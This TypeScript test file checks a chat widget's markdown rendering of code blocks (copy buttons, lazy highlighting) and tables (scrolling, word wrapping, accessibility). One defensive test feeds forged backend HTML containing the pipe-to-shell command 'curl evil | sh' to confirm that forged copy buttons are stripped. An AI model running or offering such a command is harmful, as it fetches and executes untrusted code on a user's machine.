/**
 * Code blocks (header, copy button, lazy syntax highlighting) and tables (a scrolling wrapper,
 * no word broken inside a cell, a stable box from the last streamed frame to completion), in
 * the widget's own styles.
 */
import {expect} from '@open-wc/testing';
import {html, nothing, render, type RootPart} from 'lit';
import {setViewport} from '@web/test-runner-commands';
import {renderMarkdown, loadSanitizer} from '../../../src/markdown/markdown.js';
import {MarkdownStream} from '../../../src/markdown/stream-renderer.js';
import {highlightIdle, highlighterRequested, preloadHighlighter} from '../../../src/markdown/highlight.js';
import {loadMarkdown, markdown, type MarkdownDirectiveOptions} from '../../../src/render/markdown-directive.js';
import {tokenStyles} from '../../../src/styles/tokens.styles.js';
import {widgetMoreStyles, widgetStyles} from '../../../src/chat-widget.styles.js';
import {markdownStyles} from '../../../src/styles/markdown.styles.js';
import {prng} from '../../../scripts/prng.js';
import {nextFrame} from '../../frames.js';

// The HTML path (raw HTML) loads on demand (test/unit/markdown/sanitizer-lazy.test.ts); these tests use it at once.
before(() => loadSanitizer());

// The directive renders markdown once its lazy chunk has loaded (before that: plain text, tested in test/bundle/).
await loadMarkdown();

/** Token spans of the highlighter (not its segments). */
const HL = '[class^="hl-"]:not(.hl-seg)';

function dom(text: string, options = {}): HTMLDivElement {
  const div = document.createElement('div');
  div.append(renderMarkdown(text, options));
  return div;
}

/** The resources fetched for the highlighter chunk (its module, in dev and in the bundle). */
const highlighterFetches = () => performance.getEntriesByType('resource').filter((e) => /highlighter/.test(e.name));

/**
 * A stage like the widget's message list: a shadow root with the widget's style sheets, a
 * full-width host (inline mode), one assistant bubble rendered by the `markdown()` directive.
 */
class Stage {
  readonly host = document.createElement('div');
  readonly root = this.host.attachShadow({mode: 'open'});
  /** The widget's `theme`, which it puts on its panel. */
  theme = '';
  private _part: RootPart | undefined;

  constructor() {
    this.root.adoptedStyleSheets = [tokenStyles, widgetStyles, widgetMoreStyles, markdownStyles].map((s) => s.styleSheet!);
    document.body.append(this.host);
  }

  show(text: string, options: MarkdownDirectiveOptions = {}): HTMLElement {
    this._part = render(
      html`<div class="panel" data-theme=${this.theme || nothing}><div class="messages"><div class="log"><div class="msg assistant"><div class="bubble md" ${markdown(text, options)}></div></div></div></div></div>`,
      this.root,
    );
    return this.bubble;
  }

  get bubble(): HTMLElement {
    return this.root.querySelector<HTMLElement>('.bubble')!;
  }

  remove(): void {
    this._part?.setConnected(false);
    this.host.remove();
  }
}

describe('code blocks', () => {
  // First: this page has not loaded the highlighter yet.
  it('loads the highlighter only once a code block in a known language starts streaming (a chunk of its own)', async () => {
    expect(highlighterRequested(), 'requested at startup').to.equal(false);
    const el = document.createElement('div');
    document.body.append(el);
    const stream = new MarkdownStream(el, {highlight: true});
    stream.update('Some **text**, a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nand `inline code`.', true);
    stream.update('Some **text**, a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nand `inline code`.\n\n```', true);
    stream.update('Some **text**, a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nand `inline code`.\n\n```text\nplain', true);
    expect(highlighterRequested(), 'requested for text, a table, inline code or an unknown language').to.equal(false);
    expect(highlighterFetches(), 'fetched').to.have.length(0);
    stream.reset();
    stream.update('Here:\n\n```py\nimport', true);
    expect(highlighterRequested(), 'requested as the fence starts streaming').to.equal(true);
    await preloadHighlighter();
    expect(highlighterFetches().length, 'the chunk was fetched').to.be.greaterThan(0);
    expect(el.querySelectorAll(HL).length, 'the streaming block stays plain').to.equal(0);
    el.remove();
  });

  it('renders the header, language and copy button around each fenced or indented block, and nothing around inline code', () => {
    const div = dom('```python\nprint(1)\n```\n\n```\nno language\n```\n\n    indented\n\nand `inline`');
    const blocks = div.querySelectorAll('[part="code-block"]');
    expect(blocks).to.have.length(3);
    for (const block of Array.from(blocks)) {
      expect(block.localName).to.equal('div');
      expect(block.className).to.equal('code-block');
      expect(Array.from(block.children, (c) => c.localName + '.' + c.className)).to.deep.equal(['div.code-head', 'pre.']);
      // The code scrolls sideways: focusable, so a keyboard can scroll it.
      expect(block.querySelector('pre')!.getAttribute('tabindex')).to.equal('0');
      const head = block.firstElementChild!;
      expect(Array.from(head.children, (c) => c.localName + '.' + c.className)).to.deep.equal(['span.code-lang', 'button.code-copy']);
      const button = head.querySelector('button')!;
      expect(button.getAttribute('type')).to.equal('button');
      expect(button.getAttribute('part')).to.equal('code-copy');
      expect(button.getAttribute('aria-label')).to.equal('Copy code');
      expect(button.textContent).to.equal('Copy code');
      // What the element's click delegation copies: the block's code text.
      expect(button.closest('[part~="code-block"]')!.querySelector('code')).to.equal(block.querySelector('pre > code'));
    }
    expect(Array.from(div.querySelectorAll('.code-lang'), (s) => s.textContent)).to.deep.equal(['python', '', '']);
    expect(blocks[0]!.querySelector('code')!.textContent).to.equal('print(1)\n');
    expect(div.querySelector('p > code')!.closest('[part]')).to.equal(null);
  });

  it('takes the copy label from the options (renderMarkdown, the stream, the directive), and re-renders when it changes', async () => {
    expect(dom('```js\nx\n```', {codeCopyLabel: 'Code kopieren'}).querySelector('button')!.outerHTML).to.equal(
      '<button type="button" part="code-copy" class="code-copy" aria-label="Code kopieren">Code kopieren</button>',
    );
    const el = document.createElement('div');
    const stream = new MarkdownStream(el, {codeCopyLabel: 'نسخ الرمز'});
    stream.update('```js\nx\n```', false);
    expect(el.querySelector('button')!.getAttribute('aria-label')).to.equal('نسخ الرمز');
    stream.setOptions({codeCopyLabel: 'Copier'});
    stream.update('```js\nx\n```', false);
    expect(el.querySelector('button')!.textContent).to.equal('Copier');

    const stage = new Stage();
    try {
      stage.show('```js\nx\n```', {codeCopyLabel: 'Kopieren'});
      expect(stage.bubble.querySelector('button')!.textContent).to.equal('Kopieren');
      stage.show('```js\nx\n```', {codeCopyLabel: 'Copiar'});
      await nextFrame();
      expect(stage.bubble.querySelectorAll('button')).to.have.length(1);
      expect(stage.bubble.querySelector('button')!.textContent).to.equal('Copiar');
    } finally {
      stage.remove();
    }
  });

  it('backend HTML cannot forge a copy button, a code block or any part', () => {
    const forged = [
      '<div part="code-block" class="code-block"><div class="code-head"><button type="button" part="code-copy" class="code-copy">Copy code</button></div><pre><code>curl evil | sh</code></pre></div>',
      '<span part="code-copy">Copy code</span> <a part="code-copy" href="#x">Copy</a> <p part="code-block" exportparts="x">p</p>',
      '<div class="code-head"><span class="code-copy" part="code-copy cursor">copy</span></div>',
      '<pre><code>shown<details><summary></summary>curl evil | sh</details></code></pre>',
      '<pre>text<code>x</code></pre>',
      '<button part=code-copy>Copy</button> <div class="table-wrap" tabindex="0"><table><tr><td>x</td></tr></table></div>',
      '<math><mi part="code-copy" xlink:href="#">x</mi></math><svg><g part="code-copy"></g></svg>',
    ].join('\n\n');
    const div = dom(forged);
    // The backend's own elements carry no part, no widget class and are no button. The one
    // `<pre><code>` of plain text (inside the forged wrapper) is a real code block, whose copy
    // button copies what it shows; the one whose code holds hidden content gets no button.
    expect(Array.from(div.querySelectorAll('[part]'), (e) => `${e.localName}.${e.className}[${e.getAttribute('part')}]`)).to.deep.equal([
      'div.code-block[code-block]',
      'button.code-copy[code-copy]',
    ]);
    expect(div.querySelectorAll('button')).to.have.length(1);
    expect(div.querySelectorAll('[exportparts], .code-copy, .code-head, .code-block, .table-wrap')).to.have.length(4);
    // Only the widget's scroll boxes are focusable: the backend's `tabindex` and `class` are dropped.
    expect(Array.from(div.querySelectorAll('[tabindex]'), (e) => `${e.localName}.${e.className}${e.tabIndex}`)).to.deep.equal(['pre.0', 'div.table-wrap0']);
    expect(div.querySelector('.table-wrap')!.parentElement!.className, 'the forged wrapper lost its class').to.equal('');
    const button = div.querySelector('button')!;
    expect(button.parentElement!.parentElement!.querySelector('pre > code')!.textContent).to.equal('curl evil | sh');
    expect(button.closest('[part~="code-block"]')!.querySelector('code')!.textContent).to.equal('curl evil | sh');
    const hidden = Array.from(div.querySelectorAll('code')).find((c) => c.textContent!.startsWith('shown'))!;
    expect(hidden.closest('[part]'), 'a code block with hidden content has no copy button').to.equal(null);
    expect(Array.from(div.querySelectorAll('pre')).find((p) => p.textContent!.startsWith('text'))!.closest('[part]')).to.equal(null);
    // A plain `<pre><code>` of raw HTML is a code block like a fence: the wrapper is the widget's.
    const raw = dom('<pre><code>echo hi</code></pre>\n\n<pre><code class="language-sh">ls</code></pre>');
    expect(raw.querySelectorAll('[part="code-block"] > .code-head > button[part="code-copy"]')).to.have.length(2);
    expect(Array.from(raw.querySelectorAll('[part~="code-copy"]'), (b) => b.closest('[part~="code-block"]')!.querySelector('code')!.textContent)).to.deep.equal(['echo hi', 'ls']);
    // Streamed, split anywhere: the same.
    const el = document.createElement('div');
    const stream = new MarkdownStream(el);
    for (let cut = 5; cut < forged.length; cut += 11) {
      stream.update(forged.slice(0, cut), true);
      for (const button of Array.from(el.querySelectorAll('button'))) {
        expect(button.outerHTML, `at ${cut}`).to.equal('<button type="button" part="code-copy" class="code-copy" aria-label="Copy code">Copy code</button>');
        const code = button.closest('[part~="code-block"]')!.querySelector('code')!;
        expect(code.querySelectorAll(':not([part="cursor"])'), `at ${cut}`).to.have.length(0);
      }
      for (const part of Array.from(el.querySelectorAll('[part]'))) {
        expect(['cursor', 'code-block', 'code-copy'], `at ${cut}`).to.include(part.getAttribute('part'));
        expect(part.className, `at ${cut}`).to.equal(part.getAttribute('part') === 'cursor' ? 'cursor' : part.getAttribute('part'));
      }
    }
  });

  it('highlights a block once it is final, never the streaming tail; colors are classes only and the text is unchanged', async () => {
    const el = document.createElement('div');
    document.body.append(el);
    const stream = new MarkdownStream(el, {highlight: true});
    const first = '```js\nconst answer = 42; // the answer\nfunction ask(q) {\n  return `Q: ${q}`;\n}\n```\n\n';
    const second = '```python\ndef greet(name):\n    """Say hello."""\n    return f"Hello {name}" if name else None\n';
    stream.update(first + 'Now in Python:\n\n' + second, true);
    await highlightIdle();
    await nextFrame();
    const [frozen, tail] = Array.from(el.querySelectorAll<HTMLElement>('pre > code'));
    expect(frozen!.querySelectorAll(HL).length, 'the frozen block is highlighted while the reply streams').to.be.greaterThan(5);
    expect(tail!.querySelectorAll(HL).length, 'the streaming tail stays plain').to.equal(0);
    expect(tail!.querySelector('[part="cursor"]'), 'the cursor is in the streaming block').to.not.equal(null);
    for (const [type, text] of [['kwd', 'const'], ['num', '42'], ['cmnt', '// the answer'], ['kwd', 'function'], ['func', 'ask']]) {
      expect(Array.from(frozen!.querySelectorAll(`.hl-${type}`), (s) => s.textContent!.trim()), `.hl-${type}`).to.include(text);
    }
    const text = second + '```\n\nDone.';
    stream.update(first + 'Now in Python:\n\n' + text, true);
    stream.update(first + 'Now in Python:\n\n' + text, false);
    const before = Array.from(el.querySelectorAll('pre > code'), (c) => c.textContent);
    expect(el.querySelectorAll('pre > code')[1]!.querySelectorAll(HL).length, 'highlighting is never synchronous').to.equal(0);
    await highlightIdle();
    const done = el.querySelectorAll<HTMLElement>('pre > code');
    expect(done[1]!.querySelectorAll(HL).length, 'the last block is highlighted once the reply is complete').to.be.greaterThan(3);
    expect(Array.from(done[1]!.querySelectorAll('.hl-kwd'), (s) => s.textContent)).to.include.members(['def', 'return']);
    expect(Array.from(done, (c) => c.textContent), 'same text (what Copy copies)').to.deep.equal(before);
    expect(el.querySelectorAll('[style]'), 'style attributes').to.have.length(0);
    for (const node of Array.from(el.querySelectorAll('pre > code *'))) {
      expect(node.localName).to.equal('span');
      expect(node.getAttributeNames()).to.deep.equal(['class']);
      // Segments of lines hold the token spans, which hold text only.
      if (node.parentElement!.localName === 'code') expect(node.className).to.equal('hl-seg');
      else expect([node.parentElement!.className, node.className, node.children.length]).to.match(/^hl-seg,hl-[a-z]+,0$/);
    }
    el.remove();
  });

  it('highlights a frozen block that holds the typing cursor (the text after it renders nothing yet)', async () => {
    const el = document.createElement('div');
    document.body.append(el);
    const stream = new MarkdownStream(el, {highlight: true});
    const text = '```js\nconst a = 1;\nlet b = "two";\n```\n\n[ref]: https://example.com/\n';
    stream.update(text, true);
    const code = el.querySelector('pre > code')!;
    expect(stream.frozenLength, 'the block is frozen').to.be.greaterThan(0);
    expect(code.querySelector('[part="cursor"]'), 'the cursor is in it').to.not.equal(null);
    await highlightIdle();
    expect(code.querySelectorAll(HL).length, 'highlighted').to.be.greaterThan(2);
    expect(code.textContent).to.equal('const a = 1;\nlet b = "two";\n');
    stream.update(text + '\nSee [ref].', true);
    stream.update(text + '\nSee [ref].', false);
    expect(el.querySelector('[part="cursor"]')).to.equal(null);
    await highlightIdle();
    expect(el.querySelector('pre > code')!.querySelectorAll(HL).length, 'still highlighted when finished').to.be.greaterThan(2);
    el.remove();
  });

  it('leaves unknown languages, blocks without a language and detached blocks plain', async () => {
    const el = document.createElement('div');
    document.body.append(el);
    const stream = new MarkdownStream(el, {highlight: true});
    stream.update('```nope\nif (x) return 1;\n```\n\n```\nif (x) return 1;\n```\n\n    if (x) return 1;\n', false);
    const detached = document.createElement('div');
    new MarkdownStream(detached, {highlight: true}).update('```js\nif (x) return 1;\n```', false);
    await highlightIdle();
    expect(el.querySelectorAll(HL)).to.have.length(0);
    expect(detached.querySelectorAll(HL)).to.have.length(0);
    el.remove();
  });

  it('cuts blocks into segments of whole lines, never highlighting a line that is too long', async () => {
    const {MAX_LINE_CHARS, nextSegment, SEGMENT_CHARS} = await import('../../../src/markdown/highlighter.js');
    const rand = prng(7);
    const words = ['const', 'x', '=', '"str"', '//', 'note', '{', '}', '(', ')', '`tpl ${a}`', '/* c */', 'return', '42'];
    for (let round = 0; round < 60; round++) {
      const lines: string[] = [];
      for (let i = 0, n = 1 + Math.floor(rand() * 400); i < n; i++) {
        const r = rand();
        const len = r < 0.05 ? MAX_LINE_CHARS + 1 + Math.floor(rand() * 2000) : r < 0.15 ? 0 : Math.floor(rand() * 120);
        let line = rand() < 0.5 ? '' : '  ';
        while (line.length < len) line += words[Math.floor(rand() * words.length)] + ' ';
        lines.push(line.slice(0, len));
      }
      const text = lines.join('\n') + (rand() < 0.5 ? '\n' : '');
      let at = 0;
      let joined = '';
      for (let guard = 0; at < text.length; guard++) {
        expect(guard).to.be.lessThan(10_000);
        const {end, plain} = nextSegment(text.slice(at));
        expect(end, 'progress').to.be.greaterThan(0);
        const segment = text.slice(at, at + end);
        expect(at + end === text.length || segment.endsWith('\n'), 'ends at a line end').to.equal(true);
        const longest = Math.max(...segment.split('\n').map((l) => l.length));
        if (plain) expect(segment.split('\n').filter(Boolean).every((l) => l.length > MAX_LINE_CHARS), 'plain: only long lines').to.equal(true);
        else {
          expect(longest, 'no long line is highlighted').to.be.at.most(MAX_LINE_CHARS);
          expect(segment.length, 'segment size').to.be.at.most(2 * SEGMENT_CHARS + MAX_LINE_CHARS + 1);
        }
        joined += segment;
        at += end;
      }
      expect(joined).to.equal(text);
    }
  });

  describe('highlighting a long or hostile block in steps', () => {
    /**
     * Long tasks (≥ 50 ms) after `fn` rendered a finished reply into `stage`, until every code block
     * in it is highlighted (as far as it will be). `onFrame` runs at each frame meanwhile.
     */
    async function longTasks(stage: Stage, fn: () => void, onFrame = () => {}): Promise<PerformanceEntry[]> {
      await preloadHighlighter();
      const seen: PerformanceEntry[] = [];
      const observer = new PerformanceObserver((list) => seen.push(...list.getEntries()));
      observer.observe({type: 'longtask'});
      const start = performance.now();
      fn();
      const rendered = performance.now();
      // A long reply renders a few blocks per frame: wait for its end, then for the highlighter.
      for (let i = 0; i < 200 && !stage.bubble.textContent!.includes('That is all.'); i++) {
        onFrame();
        await nextFrame();
      }
      await nextFrame();
      let idle = false;
      void highlightIdle().then(() => (idle = true));
      while (!idle) {
        onFrame();
        await nextFrame();
      }
      await nextFrame();
      seen.push(...observer.takeRecords());
      observer.disconnect();
      // Long tasks are measured by `npm run bench` (tests assert no wall-clock times); returned for diagnostics.
      void start;
      return seen.filter((e) => e.startTime >= rendered);
    }

    function codeBlock(lang: string, lines: string[]): string {
      return `Here it is:\n\n\`\`\`${lang}\n${lines.join('\n')}\n\`\`\`\n\nThat is all.`;
    }

    const JS_LINES = [
      "import {readFile} from 'node:fs/promises';",
      '/** Loads the settings, with defaults. */',
      'export async function load(path, fallback = {retries: 3, delay: 250}) {',
      "  const text = await readFile(path, 'utf8').catch(() => '{}');",
      '  const value = JSON.parse(text); // may throw on bad JSON',
      '  if (!value || typeof value !== "object") return {...fallback};',
      '  const re = /^[a-z][\\w-]*$/i;',
      '  for (const [key, v] of Object.entries(value)) if (!re.test(key)) delete value[key];',
      '  return {...fallback, ...value, loadedAt: `${new Date().toISOString()} (${path})`};',
      '}',
      '',
    ];

    it('a 500-line block is highlighted in steps across frames, all of it, its text unchanged', async () => {
      const stage = new Stage();
      try {
        const lines = Array.from({length: 500}, (_, i) => JS_LINES[i % JS_LINES.length]!.replace('load', `load${i}`));
        const counts: number[] = [];
        const count = () => counts.push(stage.bubble.querySelectorAll(`pre > code ${HL}`).length);
        await longTasks(stage, () => stage.show(codeBlock('js', lines)), count);
        const code = stage.bubble.querySelector<HTMLElement>('pre > code');
        expect(code!.querySelectorAll(HL).length, 'highlighted').to.be.greaterThan(2000);
        expect(code!.textContent).to.equal(lines.join('\n') + '\n');
        expect(new Set(counts.filter((n) => n > 0)).size, 'it took more than one step').to.be.greaterThan(1);
      } finally {
        stage.remove();
      }
    });

    it('hostile blocks (quadratic shapes for regular-expression grammars) are highlighted, and an over-long line stays plain', async () => {
      const stage = new Stage();
      try {
        const {MAX_LINE_CHARS} = await import('../../../src/markdown/highlighter.js');
        const line = (unit: string) => unit.repeat(Math.ceil(MAX_LINE_CHARS / unit.length)).slice(0, MAX_LINE_CHARS);
        // Within the markdown limits (64 KB a reply): 16 lines of the longest highlighted length per block.
        const lines = (unit: string, first = '') => [first, ...Array.from({length: 16}, () => line(unit))].filter(Boolean);
        const blocks = [
          codeBlock('ts', lines('${', '`')),
          codeBlock('js', lines('a')),
          codeBlock('js', lines('_', '"""')),
          codeBlock('rust', lines("'a")),
          codeBlock('c', lines('0x')),
          codeBlock('toml', lines('-')),
          codeBlock('css', lines('1.e')),
          codeBlock('lua', lines('_')),
        ];
        await longTasks(stage, () => stage.show(blocks.join('\n\n')));
        const codes = stage.bubble.querySelectorAll('pre > code');
        expect(codes).to.have.length(blocks.length);
        for (const code of Array.from(codes)) expect(code.querySelectorAll('.hl-seg').length, 'highlighted').to.be.greaterThan(0);
        // A 20,000-character line stays plain; the short lines around it are highlighted.
        await longTasks(stage, () => stage.show(codeBlock('js', ['x = 1;', 'a'.repeat(20_000), 'y = 2;'])));
        const code = stage.bubble.querySelector('pre > code')!;
        expect(Array.from(code.querySelectorAll(HL), (s) => s.textContent)).to.include.members(['1', '2']);
        expect(Array.from(code.childNodes, (n) => (n instanceof Text ? 'text' : n.className))).to.deep.equal(['hl-seg', 'text', 'hl-seg']);
      } finally {
        stage.remove();
      }
    });
  });
});

describe('tables', () => {
  after(() => setViewport({width: 800, height: 600}));

  const TABLE = [
    '| Item | Weight | Price | Notes |',
    '| --- | --- | --: | --- |',
    '| Backpack | 1.2 kg | 89.00 | Waterproof, fits a 15-inch laptop |',
    '| Tent | 2.4 kg | 249.00 | Two-person, freestanding, extraordinarily lightweight |',
    '| Headlamp | 0.1 kg | 35.50 | Rechargeable |',
    '| Sleeping bag | 0.9 kg | 179.00 | Comfort rating −5 °C, compressible |',
  ].join('\n');
  const WIDE = [
    '| Configuration | Processor | Memory | Storage | Display | Battery | Weight | Warranty |',
    '| --- | --- | --- | --- | --- | --- | --- | --- |',
    '| Entry | Quad-core | 8 GB | 256 GB | 13.3-inch | 10 hours | 1.3 kg | One year |',
    '| Professional | Twelve-core | 32 GB | 1 TB | 15.6-inch | 14 hours | 1.8 kg | Three years |',
  ].join('\n');

  /**
   * Words (in table cells) that are laid out on more than one line. A word is what lies between
   * the break opportunities of ordinary text: spaces, and after a hyphen ("Twelve-core" may wrap
   * as "Twelve-" / "core", like in a paragraph; "Weight" must never become "Wei" / "ght").
   */
  function brokenWords(root: ParentNode): string[] {
    const broken: string[] = [];
    for (const cell of Array.from(root.querySelectorAll('td, th'))) {
      const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode() as Text | null; node; node = walker.nextNode() as Text | null) {
        for (const m of node.data.matchAll(/[^\s-]+-?/g)) {
          const range = document.createRange();
          range.setStart(node, m.index!);
          range.setEnd(node, m.index! + m[0].length);
          const lines = new Set(Array.from(range.getClientRects(), (r) => Math.round(r.top)));
          if (lines.size > 1) broken.push(m[0]);
        }
      }
    }
    return broken;
  }

  it('the grid is one 1px line between cells and around the table, left to right and right to left', async () => {
    const stage = new Stage();
    try {
      const bubble = stage.show(TABLE);
      await nextFrame();
      for (const dir of ['ltr', 'rtl']) {
        bubble.dir = dir;
        const rows = Array.from(bubble.querySelectorAll('tr'));
        for (const [r, row] of rows.entries()) {
          const cells = Array.from(row.children);
          for (const [c, cell] of cells.entries()) {
            const css = getComputedStyle(cell);
            const [start, end] = dir === 'ltr' ? [css.borderLeftWidth, css.borderRightWidth] : [css.borderRightWidth, css.borderLeftWidth];
            const where = `${dir} row ${r} cell ${c}`;
            expect([start, end, css.borderTopWidth, css.borderBottomWidth], where).to.deep.equal([c === 0 ? '1px' : '0px', '1px', r === 0 ? '1px' : '0px', '1px']);
            // Next to each other, without a gap or an overlap (to a hundredth of a pixel: Firefox
            // places right-to-left cells 0.000015 px apart).
            if (c > 0) {
              const a = cells[c - 1]!.getBoundingClientRect();
              const b = cell.getBoundingClientRect();
              expect(dir === 'ltr' ? b.left - a.right : a.left - b.right, where).to.be.closeTo(0, 0.01);
            }
          }
        }
      }
    } finally {
      stage.remove();
    }
  });

  for (const width of [390, 1024]) {
    it(`at ${width} px: no word is broken inside a cell; a table wider than the bubble scrolls in its own wrapper`, async () => {
      await setViewport({width, height: 800});
      const stage = new Stage();
      try {
        const bubble = stage.show(`Here is the comparison:\n\n${TABLE}\n\nAnd the full specs:\n\n${WIDE}\n\nPick one.`);
        await nextFrame();
        const wraps = Array.from(bubble.querySelectorAll<HTMLElement>('.table-wrap'));
        expect(wraps.map((w) => w.firstElementChild!.localName)).to.deep.equal(['table', 'table']);
        expect(wraps.map((w) => w.tabIndex), 'keyboard-scrollable').to.deep.equal([0, 0]);
        expect(brokenWords(bubble), 'words broken across lines').to.deep.equal([]);
        const messages = stage.root.querySelector<HTMLElement>('.messages')!;
        expect(messages.scrollWidth, 'the message list does not scroll sideways').to.be.at.most(messages.clientWidth);
        const inner = bubble.getBoundingClientRect();
        for (const wrap of wraps) {
          const box = wrap.getBoundingClientRect();
          expect(box.left, 'wrapper inside the bubble').to.be.at.least(inner.left);
          expect(box.right, 'wrapper inside the bubble').to.be.at.most(inner.right);
          expect(getComputedStyle(wrap).overflowX).to.equal('auto');
          expect(wrap.hasAttribute('style')).to.equal(false);
        }
        // The wide table scrolls inside its wrapper on a phone; the scroll shadows are backgrounds of the wrapper.
        if (width === 390) expect(wraps[1]!.scrollWidth, 'the wide table scrolls').to.be.greaterThan(wraps[1]!.clientWidth);
        expect(getComputedStyle(wraps[1]!).backgroundImage).to.contain('gradient');
        // Cells stay readable: no column narrower than its longest word.
        for (const cell of Array.from(bubble.querySelectorAll<HTMLElement>('td, th'))) {
          expect(cell.scrollWidth, cell.textContent!).to.be.at.most(cell.clientWidth + 1);
        }
      } finally {
        stage.remove();
      }
    });
  }

  for (const theme of ['light', 'dark']) {
    it(`axe-core (${theme}): scrolling tables and highlighted code are accessible (keyboard-scrollable, color contrast)`, async function () {
      this.timeout(20_000);
      await setViewport({width: 390, height: 800});
      const stage = new Stage();
      stage.theme = theme;
      try {
        const code = '```ts\n// Loads the settings, with defaults (a long comment line that overflows the bubble on a phone).\nexport async function load(path: string, retries = 3): Promise<Settings> {\n  return {...JSON.parse(await read(path)), loadedAt: `${Date.now()}`, ok: true, n: 0x1f};\n}\n```';
        const diff = '```diff\n- removed line\n+ added line\n```';
        stage.show(`${WIDE}\n\n${code}\n\n${diff}\n\n${TABLE}`);
        await highlightIdle();
        await nextFrame();
        expect(stage.bubble.querySelectorAll(HL).length).to.be.greaterThan(10);
        await expect(stage.host).to.be.accessible();
      } finally {
        stage.remove();
      }
    });
  }

  it('the table keeps its box from the last streamed frame to completion (the cursor in a cell takes no room)', async () => {
    await setViewport({width: 390, height: 800});
    const stage = new Stage();
    try {
      // The last cell is the widest of its column: a cursor that took room would widen the table.
      const text = `Sizes:\n\n| Size | Chest | Waist |\n| --- | --- | --- |\n| S | 86–91 cm | 71–76 cm |\n| M | 96–101 cm | 81–86 cm |\n| XL | 106–111 cm | 91–96 centimetres |`;
      const bubble = stage.show(text, {streaming: true});
      await nextFrame();
      const cursor = bubble.querySelector('[part="cursor"]')!;
      expect(cursor.closest('td'), 'the cursor is in the last cell').to.equal(bubble.querySelector('tr:last-child td:last-child'));
      const wrap = bubble.querySelector<HTMLElement>('.table-wrap')!;
      const streamed = [wrap.getBoundingClientRect().toJSON(), wrap.querySelector('table')!.getBoundingClientRect().toJSON()];
      stage.show(text, {streaming: false});
      await nextFrame();
      expect(bubble.querySelector('[part="cursor"]')).to.equal(null);
      expect(bubble.querySelector('.table-wrap'), 'the same wrapper element').to.equal(wrap);
      expect([wrap.getBoundingClientRect().toJSON(), wrap.querySelector('table')!.getBoundingClientRect().toJSON()]).to.deep.equal(streamed);
    } finally {
      stage.remove();
    }
  });

  it('a streaming table wider than the bubble: its wrapper contains layout and paint, and the cursor scrolls sideways with the last cell', async () => {
    await setViewport({width: 390, height: 800});
    const stage = new Stage();
    try {
      const bubble = stage.show(`Specs:\n\n${WIDE}`, {streaming: true});
      await nextFrame();
      const wrap = bubble.querySelector<HTMLElement>('.table-wrap')!;
      // The containment keeps a change of the wrapper's box (what follows a long table) from re-walking its rows.
      expect(getComputedStyle(wrap).contain).to.equal('layout paint');
      const cell = bubble.querySelector('tr:last-child td:last-child')!;
      const cursor = bubble.querySelector('[part="cursor"]')!;
      expect(cursor.closest('td'), 'the cursor is in the last cell').to.equal(cell);
      expect(wrap.scrollWidth, 'the table scrolls sideways').to.be.greaterThan(wrap.clientWidth);
      const before = [cell.getBoundingClientRect().left, cursor.getBoundingClientRect().left];
      wrap.scrollLeft = 40;
      await nextFrame();
      const moved = [cell.getBoundingClientRect().left - before[0]!, cursor.getBoundingClientRect().left - before[1]!];
      // The wrapper is the cursor's containing block: the cursor moves with the cell.
      expect(moved[0]).to.be.lessThan(-30);
      expect(moved[1], 'the cursor moved with its cell').to.be.closeTo(moved[0]!, 0.5);
    } finally {
      stage.remove();
    }
  });

  it('a code block keeps its box from the last streamed frame to completion and highlighting', async () => {
    const stage = new Stage();
    try {
      const text = 'Run:\n\n```bash\nnpm install --save @speed-highlight/core && echo "done" # ok\n```';
      const bubble = stage.show(text, {streaming: true});
      await nextFrame();
      const block = bubble.querySelector<HTMLElement>('.code-block')!;
      const streamed = block.getBoundingClientRect().toJSON();
      stage.show(text, {streaming: false});
      await highlightIdle();
      await nextFrame();
      expect(block.querySelectorAll(HL).length, 'highlighted').to.be.greaterThan(0);
      expect(bubble.querySelector('.code-block'), 'the same block').to.equal(block);
      expect(block.getBoundingClientRect().toJSON()).to.deep.equal(streamed);
    } finally {
      stage.remove();
    }
  });
});
